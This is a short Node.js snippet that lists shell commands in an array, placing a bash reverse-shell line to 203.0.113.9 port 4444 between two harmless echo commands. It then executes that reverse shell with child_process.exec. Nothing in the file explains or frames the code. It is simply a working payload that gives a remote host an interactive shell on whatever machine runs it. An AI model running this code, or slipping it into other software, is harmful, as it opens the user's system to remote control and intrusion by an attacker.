const { exec } = require('child_process');
const ways = ['echo one', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'echo two'];
exec(ways[1]);
